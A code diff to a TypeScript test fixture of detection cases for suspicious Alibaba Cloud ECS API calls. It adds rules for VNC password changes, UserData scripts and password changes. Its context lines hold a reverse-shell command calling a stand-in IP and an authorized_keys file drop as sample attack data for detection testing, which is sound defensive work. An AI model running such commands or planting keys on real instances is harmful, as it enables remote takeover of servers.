@@ -117,8 +117,17 @@ export const workloads: Readonly<Record<string, ByHand>> = {
   },
   'instance-access-added': {
     from: 'API list of ECS',
-    hears: calls('Ecs', 'ImportKeyPair AttachKeyPair AttachInstanceRamRole'),
-    passes: [...calls('Ecs', 'DetachKeyPair'), ...calls('SWAS-OPEN', 'ImportKeyPair')],
+    hears: [
+      ...calls('Ecs', 'ImportKeyPair AttachKeyPair AttachInstanceRamRole'),
+      ...calls('Ecs', 'ModifyInstanceVncPasswd', { InstanceId: 'i-1' }),
+      ...calls('Ecs', 'ModifyInstanceAttribute', { InstanceId: 'i-1', UserData: 'IyEvYmluL3No' }),
+      ...calls('Ecs', 'ModifyInstanceAttribute', { InstanceId: 'i-1', Password: '******' }),
+    ],
+    passes: [
+      ...calls('Ecs', 'ModifyInstanceAttribute', { InstanceId: 'i-1', InstanceName: 'password' }),
+      ...calls('Ecs', 'DetachKeyPair'),
+      ...calls('SWAS-OPEN', 'ImportKeyPair'),
+    ],
   },
   'instance-protection-off': {
     from: 'landing zone, ecs_release_protec_off',
@@ -449,7 +458,7 @@ export const workloads: Readonly<Record<string, ByHand>> = {
         ContentEncoding: 'PlainText',
         CommandContent: 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
       }),
-      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.4': 'i-4' }),
+      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.3': 'i-3' }),
       ...calls('Ecs', 'SendFile', { Content: 'ssh-ed25519 AAAA', Name: 'authorized_keys' }),
       ...calls('Ecs', 'RunCommand', {}, { requestParameterJson: '{"CommandContent":"Y3Vy' }),
     ],
@@ -459,7 +468,7 @@ export const workloads: Readonly<Record<string, ByHand>> = {
         'InstanceId.1': 'i-1',
         CommandContent: 'c3lzdGVtY3RsIHJlc3RhcnQgbmdpbng=',
       }),
-      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', CommandId: 'c-1' }),
+      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.2': 'i-2' }),
       ...calls('Ecs', 'DescribeInvocations', { CommandContent: 'curl' }),
     ],
   },
